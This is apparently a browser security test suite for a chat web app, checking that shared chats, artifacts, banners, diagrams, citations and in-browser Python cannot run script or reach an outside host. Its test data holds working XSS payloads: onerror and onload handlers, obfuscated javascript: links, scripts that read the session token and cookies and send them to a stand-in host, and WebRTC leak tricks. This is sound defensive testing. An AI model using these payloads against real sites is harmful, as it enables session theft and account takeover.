"""What models, documents and other people write runs in the page of somebody else: it reaches nothing and nobody."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Error, Page, Request, Route, WebSocketRoute, expect

from tests.browser.pages import home, new_page, open_panel, stored_chat, token, wait_for_round
from tests.browser.running import Server
from tests.standins.elsewhere import Elsewhere
from tests.standins.knocking import Knocking

pytestmark = [pytest.mark.browser, pytest.mark.release, pytest.mark.slow]

# The frame in which what somebody else wrote is shown, as upstream names it, too.
FOREIGN = "iframe[title='Content']"
RAN = "window.parent.stolen = window.stolen = 'ran'; document.title = 'stolen'"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """A site outside that takes whatever is sent to it, from any page."""
    with Elsewhere() as site:
        yield site


def show(page: Page, server: Server, answer: str, **more: Any) -> None:
    """Open a chat that somebody shared, whose answer is this text, with more members of its message."""
    home(page, server)
    page.goto(f"{server.url}/c/{stored_chat(page, server, answer_text=answer, **more)}")
    wait_for_round(page)
    expect(page.locator(".chat-assistant").last).to_be_visible()


def settle(page: Page) -> None:
    """Long enough for what was shown to have run, and sent, whatever it could."""
    page.wait_for_timeout(1_500)


def untouched(page: Page, elsewhere: Elsewhere) -> None:
    settle(page)
    assert elsewhere.requests == []
    assert page.evaluate("window.stolen") is None and page.title() != "stolen"


@pytest.mark.attack
def test_a_remote_picture_loads_nothing(page: Page, server: Server, elsewhere: Elsewhere) -> None:
    show(page, server, f"Look: ![chart]({elsewhere.url}/p.png?q=my-secret) and <img src='{elsewhere.url}/q.png'>")
    untouched(page, elsewhere)


@pytest.mark.attack
def test_cve_2025_46719_a_files_frame_brings_no_script(page: Page, server: Server, elsewhere: Elsewhere) -> None:
    frame = f'<iframe src="/api/v1/files/" onload="{RAN}; fetch(\'{elsewhere.url}/?\' + localStorage.token)"></iframe>'
    inner = f'<img src=x onerror="{RAN}">'
    show(page, server, f"{frame}\n\nand inside a line {frame} {inner}")
    untouched(page, elsewhere)


@pytest.mark.attack
def test_cve_2025_46719_a_fresh_frame_is_no_way_past_the_guard(
    page: Page, server: Server, elsewhere: Elsewhere
) -> None:
    """A script that got into the page all the same takes `fetch` from a new frame, where nothing guards it."""
    home(page, server)
    fresh = """(url) => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.contentWindow.fetch(url, {mode: 'no-cors', method: 'POST', body: 'words'}).catch(() => {});
        new frame.contentWindow.Image().src = url + '/picture';
        frame.contentWindow.navigator.sendBeacon(url + '/beacon', 'words');
    }"""
    page.evaluate(fresh, elsewhere.url)
    untouched(page, elsewhere)


@pytest.mark.attack
def test_cve_2026_109288_a_link_runs_nothing(page: Page, server: Server, elsewhere: Elsewhere) -> None:
    show(
        page,
        server,
        f"[press](javascript:{RAN.replace(' ', '%20')}) and [again](JaVa&#115;cript:{RAN}) [fine](https://a.example)",
    )
    links = page.locator(".chat-assistant a")
    addresses = [link.get_attribute("href") for link in links.all()]
    assert "https://a.example" in addresses
    assert not [address for address in addresses if address and "script" in address.lower()]
    untouched(page, elsewhere)


@pytest.mark.attack
def test_cve_2025_64496_an_event_runs_no_code_in_the_page(browser: Browser, server: Server, signed_in: Path) -> None:
    """A server, or a Function in it, sends an event with code. The page's policy is off, to see the page alone."""
    page = new_page(browser, storage_state=signed_in, bypass_csp=True)
    sockets: list[WebSocketRoute] = []

    def relay(socket: WebSocketRoute) -> None:
        socket.connect_to_server()
        sockets.append(socket)

    page.route_web_socket(re.compile(r"/ws/socket\.io/"), relay)
    home(page, server)
    chat_id = stored_chat(page, server)
    chat = page.request.get(f"{server.url}/api/v1/chats/{chat_id}", headers=token(page)).json()["chat"]
    page.goto(f"{server.url}/c/{chat_id}")
    expect(page.locator(".chat-assistant").last).to_be_visible()
    for kind, data in (
        ("execute", {"code": "window.stolen = 'ran'"}),
        ("notification", {"content": "the event was heard"}),
    ):
        event = {"chat_id": chat_id, "message_id": chat["history"]["currentId"], "data": {"type": kind, "data": data}}
        sockets[-1].send(f"42{json.dumps(['chat-events', event])}")
    expect(page.get_by_text("the event was heard")).to_be_visible()
    assert page.evaluate("window.stolen") is None
    page.context.close()


LINK = "[press](javascript:window.stolen='ran') and [fine](https://a.example)"


@pytest.mark.attack
def test_cve_2026_45665_cve_2026_44568_a_banner_and_a_models_description_run_nothing(
    browser: Browser, server: Server, signed_in: Path
) -> None:
    """Markdown makes a link out of text that was clean before it. The page's policy is off, to see the page alone."""
    page = new_page(browser, storage_state=signed_in, bypass_csp=True)

    def describe(route: Route) -> None:
        answer = route.fetch()
        models = answer.json()
        for model in models["data"]:
            model["info"] = {**(model.get("info") or {}), "meta": {"description": LINK}}
        route.fulfill(response=answer, json=models)

    banner = {"id": "b", "type": "info", "title": "", "content": LINK, "dismissible": True, "timestamp": 1}
    page.route("**/api/v1/configs/banners", lambda route: route.fulfill(json=[banner]))
    page.route("**/api/models*", describe)
    home(page, server)
    expect(page.get_by_role("link", name="fine")).to_have_count(2)
    links = page.get_by_text("press", exact=True).all()
    assert len(links) == 2 and not [link for link in links if "script" in (link.get_attribute("href") or "")]
    page.context.close()


ARTIFACT = """```html
<p id="said">waiting</p>
```

```js
const said = [];
try { said.push(parent.localStorage.token); } catch { said.push('no token'); }
try { said.push(document.cookie || 'no cookie'); } catch { said.push('no cookie'); }
fetch('ELSEWHERE/fetch', {mode: 'no-cors'}).catch(() => {});
fetch('/api/config').then(() => said.push('the server'), () => said.push('no server')).then(() => {
  document.getElementById('said').textContent = said.join(', ');
});
new Image().src = 'ELSEWHERE/picture';
setTimeout(() => { location.href = 'ELSEWHERE/gone?words'; }, 1000);
```
"""


@pytest.mark.attack
def test_cve_2026_45303_an_artifact_runs_without_the_pages_origin(
    page: Page, server: Server, elsewhere: Elsewhere
) -> None:
    show(page, server, ARTIFACT.replace("ELSEWHERE", elsewhere.url))
    page.locator("#chat-context-menu-button").click()
    page.get_by_role("menuitem", name="Artifacts").click()
    frame = page.frame_locator(FOREIGN)
    expect(frame.locator("#said")).to_have_text("no token, no cookie, no server", timeout=15_000)
    untouched(page, elsewhere)


CALL = """
const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
call.createDataChannel('words');
call.createOffer().then((offer) => call.setLocalDescription(offer));
"""
WAYS_OUT = {
    "webrtc": f"<script>{CALL}</script>",
    "webrtc in a frame of its own": f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
    "a name that is looked up": "<script>setTimeout(() => { location = 'http://127.0.0.1:PORT/words' }, 700)</script>",
}


@pytest.mark.attack
@pytest.mark.parametrize("way", WAYS_OUT)
def test_an_artifact_tells_no_name_to_the_network(page: Page, server: Server, way: str) -> None:
    """Servers' names carry words, and what no CSP names looks them up: a browser must not even knock."""
    ended: list[Page] = []
    page.on(
        "crash", lambda crashed: ended.append(crashed)
    )  # Chromium ends a frame, and what shares its process, that insists on WebRTC
    with Knocking() as elsewhere:
        show(page, server, f"```html\n<p id='said'>shown</p>{WAYS_OUT[way].replace('PORT', str(elsewhere.port))}\n```")
        with suppress(Error):
            page.locator("#chat-context-menu-button").click()
            page.get_by_role("menuitem", name="Artifacts").click()
            page.frame_locator(FOREIGN).locator("#said").wait_for()
            settle(page)
            ended.append(page)
        assert ended, "the artifact was never shown"
        assert elsewhere.knocks == []


def test_a_call_from_a_page_without_policy_is_heard(page: Page) -> None:
    """What the attacks above would look like if they got out."""
    with Knocking() as elsewhere:
        page.evaluate(CALL.replace("PORT", str(elsewhere.port)))
        settle(page)
        assert "udp" in elsewhere.knocks


@pytest.mark.attack
def test_cve_2026_26192_a_quoted_page_runs_without_the_pages_origin(
    page: Page, server: Server, elsewhere: Elsewhere
) -> None:
    quoted = f"""<p id="said">waiting</p><script>
        let said;
        try {{ said = parent.localStorage.token; }} catch {{ said = 'no token'; }}
        fetch('{elsewhere.url}/' + said, {{mode: 'no-cors'}}).catch(() => {{}});
        document.getElementById('said').textContent = said;
    </script>"""
    source = {"source": {"name": "a page"}, "document": [quoted], "metadata": [{"source": "a page", "html": True}]}
    show(page, server, "As the page says [1].", sources=[source])
    page.locator("[id^='source-']").first.click()
    expect(page.frame_locator(FOREIGN).locator("#said")).to_have_text("no token")
    untouched(page, elsewhere)


DIAGRAM = """```mermaid
graph TD
  A["<img src=x onerror='window.stolen=1'>"] --> B[end]
  click A "javascript:window.stolen=1"
```
"""
DRAWING = """```svg
<svg xmlns="http://www.w3.org/2000/svg" onload="window.stolen=1"><image href="ELSEWHERE/i.png" />
<a href="javascript:window.stolen=1"><circle r="9" onload="window.stolen=1" onclick="window.stolen=1" /></a></svg>
```
"""


@pytest.mark.attack
def test_cve_2026_54011_a_diagram_brings_no_script(page: Page, server: Server, elsewhere: Elsewhere) -> None:
    show(page, server, DIAGRAM)
    drawn = page.locator("svg[id^='mermaid']").first
    expect(drawn).to_be_visible(timeout=15_000)
    assert "stolen" not in drawn.evaluate("(node) => node.outerHTML")
    untouched(page, elsewhere)


@pytest.mark.attack
def test_cve_2026_54011_a_drawing_brings_no_script(page: Page, server: Server, elsewhere: Elsewhere) -> None:
    show(page, server, DRAWING.replace("ELSEWHERE", elsewhere.url))
    page.locator("#chat-context-menu-button").click()
    page.get_by_role("menuitem", name="Artifacts").click()
    drawn = page.locator("svg:has(circle[r='9'])").first
    expect(drawn).to_be_attached(timeout=15_000)
    assert "stolen" not in drawn.evaluate("(node) => node.outerHTML")
    untouched(page, elsewhere)


PYTHON = """```python
import js
from js import fetch
found = [hasattr(js, name) for name in ("localStorage", "document", "RTCPeerConnection")]
for url in ("SERVER/api/config", "ELSEWHERE/?words"):
    try:
        await fetch(url)
        found.append(url)
    except Exception:
        found.append("refused")
print(found, 6 * 7)
```
"""


@pytest.mark.attack
def test_cve_2026_59214_python_runs_without_the_pages_origin(page: Page, server: Server, elsewhere: Elsewhere) -> None:
    show(page, server, PYTHON.replace("SERVER", server.url).replace("ELSEWHERE", elsewhere.url))
    page.get_by_role("button", name="Run", exact=True).first.click()
    output = page.locator("#stdout-output, .chat-assistant").filter(has_text="42").last
    expect(output).to_contain_text("[False, False, False, 'refused', 'refused'] 42", timeout=60_000)
    untouched(page, elsewhere)


def test_a_tour_has_no_violation_and_asks_no_other_host(page: Page, server: Server) -> None:
    said: list[str] = []
    asked: list[str] = []

    def listen(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Permissions-Policy" in message.text or "CORS" in message.text:
            said.append(message.text)

    def look(request: Request) -> None:
        if not request.url.startswith((server.url, "data:", "blob:")):
            asked.append(request.url)

    page.on("console", listen)
    page.context.on("request", look)
    home(page, server)
    open_panel(page)
    page.keyboard.press("Escape")
    for path in (
        "/workspace/models",
        "/workspace/knowledge",
        "/workspace/tools",
        "/admin/users",
        "/admin/settings",
        "/playground",
    ):
        page.goto(server.url + path)
        page.wait_for_load_state("networkidle")
    home(page, server)
    page.get_by_role("button", name="User menu").or_(page.locator("button:has(img[alt='User profile'])")).last.click()
    page.get_by_text("Settings", exact=True).first.click()
    for name in ("General", "Interface", "Personalization", "Audio", "Chats", "Account", "About"):
        page.get_by_role("button", name=name, exact=True).last.click()
        settle(page) if name in ("Account", "About") else None
    assert said == [] and asked == []
